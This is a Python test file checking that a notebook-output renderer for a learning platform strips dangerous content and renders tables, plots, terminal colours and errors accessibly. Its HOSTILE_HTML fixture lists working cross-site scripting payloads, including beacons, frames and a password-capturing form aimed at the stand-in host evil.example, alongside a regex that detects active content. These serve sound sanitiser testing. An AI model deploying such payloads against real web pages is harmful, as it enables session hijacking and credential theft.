import base64
import io
import re

import pytest
from lxml import html
from PIL import Image

from academy.domain.grading import CellError, CellRun, Output
from academy.web.outputs import MAX_LINES, MAX_TEXT, render_outputs

ACTIVE = re.compile(
    r"<(script|iframe|object|embed|form|input|button|link|meta|base|style|svg|math|video|audio|"
    r"source|a|textarea|select|template|noscript)\b|\son\w+\s*=|javascript:|\sstyle\s*=|\sid\s*=|"
    r"\b(?:href|action|formaction|srcset|background|poster)\s*=|evil\.example",
    re.IGNORECASE,
)

HOSTILE_HTML = {
    "script": "<script>alert(1)</script>",
    "handler": "<td onmouseover=alert(1)>x</td>",
    "image handler": "<img src=x onerror=alert(1)>",
    "beacon": '<img src="https://evil.example/?c=1">',
    "srcset": '<img srcset="https://evil.example/a 1x">',
    "frame": '<iframe src="https://evil.example"></iframe>',
    "srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "stylesheet": '<link rel="stylesheet" href="https://evil.example/a.css">',
    "style tag": "<style>body{background:url(https://evil.example)}</style>",
    "style attribute": '<p style="background:url(https://evil.example)">x</p>',
    "form": '<form action="https://evil.example"><input name=password></form>',
    "form outside": '<button form="exercise" formaction="https://evil.example">Check</button>',
    "link": '<a href="https://evil.example">Sign in again</a>',
    "script link": '<a href="javascript:alert(1)">x</a>',
    "tabbed link": '<a href="java\tscript:alert(1)">x</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "svg animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg use": '<svg><use href="https://evil.example#x"/></svg>',
    "math": '<math><maction xlink:href="javascript:alert(1)">x</maction></math>',
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "template": "<template><script>alert(1)</script></template>",
    "object": '<object data="https://evil.example"></object>',
    "video": '<video poster="https://evil.example" src=x onerror=alert(1)></video>',
    "clobbering": '<p id="csrf_token" name="revision">x</p>',
    "overlay": '<div class="action-bar usa-modal" style="position:fixed">Sign in</div>',
    "broken tag": "<<script>alert(1)//<</script>",
    "comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "background": '<table background="https://evil.example"><tr><td>x</td></tr></table>',
}


def shown(*outputs: Output, error: CellError | None = None) -> str:
    return str(render_outputs(CellRun("c", outputs, error), 2))


def printed(text: str) -> str:
    frame = '<pre class="stdout" tabindex="0" role="group" aria-label="Printed text">{}</pre>'
    return frame.format(text)


def rich(**data: object) -> Output:
    return Output(
        "display_data", {kind.replace("_", "/", 1): value for kind, value in data.items()}
    )


def png(size: tuple[int, int] = (4, 3)) -> str:
    held = io.BytesIO()
    Image.new("RGB", size, "white").save(held, "PNG")
    return base64.b64encode(held.getvalue()).decode()


@pytest.mark.parametrize("payload", HOSTILE_HTML.values(), ids=list(HOSTILE_HTML))
def test_each_payload_is_dangerous_as_it_stands(payload: str) -> None:
    assert ACTIVE.search(payload)


@pytest.mark.parametrize("payload", HOSTILE_HTML.values(), ids=list(HOSTILE_HTML))
def test_hostile_html_can_do_nothing(payload: str) -> None:
    assert not ACTIVE.search(shown(rich(text_html=payload)))


@pytest.mark.parametrize("payload", HOSTILE_HTML.values(), ids=list(HOSTILE_HTML))
def test_hostile_text_stays_text(payload: str) -> None:
    printed = html.fragment_fromstring(
        shown(Output("stream", {"name": "stdout", "text": payload})), create_parent="div"
    )
    assert [element.tag for element in printed.iter()] == ["div", "pre"]
    assert printed.text_content().split() == payload.split()


@pytest.mark.parametrize("payload", HOSTILE_HTML.values(), ids=list(HOSTILE_HTML))
def test_hostile_errors_stay_text(payload: str) -> None:
    tree = html.fragment_fromstring(
        shown(error=CellError(payload, payload, 1, payload)), create_parent="div"
    )
    assert {str(element.tag) for element in tree.iter()} == {
        "div",
        "p",
        "details",
        "summary",
        "pre",
    }


def test_only_the_classes_of_tables_survive() -> None:
    told = shown(rich(text_html='<table class="dataframe usa-modal"><tr><td>1</td></tr></table>'))
    assert 'class="dataframe"' in told
    assert "usa-modal" not in told


def test_a_table_says_which_cells_are_headers() -> None:
    table = (
        "<table><thead><tr><th></th><th>days</th></tr></thead>"
        "<tbody><tr><th>0</th><td>4</td></tr></tbody></table>"
    )
    tree = html.fragment_fromstring(shown(rich(text_html=table)))
    assert [cell.get("scope") for cell in tree.iter("th")] == ["col", "row"]
    assert tree.findtext(".//caption") == "Table from cell 2"
    assert (tree.get("tabindex"), tree.get("aria-label")) == ("0", "Table from cell 2")


def test_what_a_cell_without_a_number_shows_is_named_as_well() -> None:
    run = CellRun("c", (rich(image_png=png()),))
    assert 'alt="Plot from the code above"' in render_outputs(run, 0)


def test_a_huge_table_is_refused_in_words() -> None:
    assert ".head()" in shown(rich(text_html="<p>" + "x" * 300_000))


def test_html_is_shown_rather_than_its_plain_text() -> None:
    told = shown(rich(text_html="<b>bold</b>", text_plain="plain"))
    assert "<b>bold</b>" in told
    assert "plain" not in told


def test_scripts_and_widgets_fall_back_to_their_text() -> None:
    output = rich(
        application_javascript="alert(1)",
        **{"application_vnd.jupyter.widget-view+json": {"model_id": "x"}},
        text_plain="<Widget>",
    )
    assert shown(output) == printed("&lt;Widget&gt;")


def test_an_output_of_unknown_kinds_shows_nothing() -> None:
    assert shown(rich(application_javascript="alert(1)")) == ""


def test_text_may_come_as_a_list_of_lines() -> None:
    assert shown(rich(text_plain=["a\n", "b"])) == printed("a\nb")
    assert shown(rich(text_plain=7)) == ""


def test_a_plot_is_drawn_anew() -> None:
    told = shown(rich(image_png=png()))
    assert re.match(r'<img alt="Plot from cell 2" width="4" height="3" src="data:image/png', told)


def test_what_hides_in_a_picture_is_left_behind() -> None:
    held = base64.b64decode(png()) + b"<script>alert(1)</script>"
    told = shown(rich(image_png=base64.b64encode(held).decode()))
    source = re.search(r"base64,([^\"]+)", told)
    assert source is not None
    assert b"script" not in base64.b64decode(source[1])


@pytest.mark.parametrize(
    "data",
    [
        "not base64 at all",
        base64.b64encode(b"GIF89a" + b"\0" * 50).decode(),
        base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 50).decode(),
        png((5000, 1)),
    ],
    ids=["text", "another format", "damaged", "too wide"],
)
def test_a_bad_picture_is_told_in_words(data: str) -> None:
    told = shown(rich(image_png=data))
    assert "<img" not in told
    assert "picture" in told


def test_a_drawing_is_only_ever_a_picture() -> None:
    drawing = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script/></svg>"
    told = shown(rich(**{"image_svg+xml": drawing}))
    assert told.startswith('<img alt="Drawing from cell 2" src="data:image/svg+xml;base64,')
    assert "alert" not in told


def test_a_huge_drawing_is_refused_in_words() -> None:
    assert "too large" in shown(rich(**{"image_svg+xml": "x" * 300_000}))


def test_colours_of_the_terminal_become_classes() -> None:
    told = shown(Output("stream", {"name": "stdout", "text": "\x1b[31mred\x1b[0m <b>"}))
    assert '<span class="ansi31">red</span> &lt;b&gt;' in told


def test_terminal_links_and_titles_are_dropped() -> None:
    text = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ \x1b]0;title\x07me"
    assert shown(Output("stream", {"name": "stdout", "text": text})) == (printed("click me"))


def test_signs_that_turn_the_reading_direction_are_dropped() -> None:
    assert "\u202e" not in shown(Output("stream", {"name": "stdout", "text": "a\u202eb\x00\x9b"}))


def test_a_progress_bar_shows_its_last_state() -> None:
    text = "10 %\r50 %\r100 %\ndone\r\n"
    assert shown(Output("stream", {"name": "stdout", "text": text})) == (printed("100 %\ndone"))


def test_warnings_are_told_apart_from_output() -> None:
    assert 'class="stderr"' in shown(Output("stream", {"name": "stderr", "text": "careful"}))


def test_long_output_folds() -> None:
    text = "".join(f"row {n}\n" for n in range(MAX_LINES + 170))
    told = shown(Output("stream", {"name": "stdout", "text": text}))
    assert "Show the other 170 lines" in told
    assert f"row {MAX_LINES + 169}" in told


def test_endless_output_is_cut_and_says_so() -> None:
    told = shown(Output("stream", {"name": "stdout", "text": "x" * (MAX_TEXT + 1)}))
    assert "cut here" in told
    assert len(told) < MAX_TEXT + 500


def test_an_error_is_told_first_and_python_s_words_fold_away() -> None:
    told = shown(error=CellError("KeyError", "'catgory'", 2, "Traceback …"))
    assert "There is no column or entry called “catgory” on line 2." in told
    assert 'data-line="2"' in told
    assert told.index("There is no column") < told.index("<details")


def test_an_error_that_stands_only_in_the_outputs_is_told_as_well() -> None:
    data = {"ename": "ZeroDivisionError", "evalue": "division by zero", "traceback": ["a", "b"]}
    told = shown(Output("error", data))
    assert "divided by zero" in told
    assert "data-line" not in told


def test_an_error_without_traceback_has_nothing_to_unfold() -> None:
    assert "<details" not in shown(error=CellError("TimeoutError", "", None))


def test_silence_shows_nothing() -> None:
    assert shown() == ""
    assert shown(Output("stream", {"name": "stdout", "text": " \n"})) == ""
